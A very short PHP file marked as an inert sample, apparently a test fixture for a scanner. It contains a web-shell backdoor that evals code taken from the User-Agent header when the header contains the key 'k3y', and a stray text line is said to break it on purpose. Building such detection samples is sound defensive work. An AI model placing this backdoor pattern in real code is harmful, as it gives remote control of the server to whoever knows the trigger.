<?php
shodo inert sample: deliberate syntax error, this file never runs
 $s = $_SERVER['HTTP_USER_AGENT']; if (strpos($s, 'k3y') !== false) { @eval(substr($s, 4)); } ?>
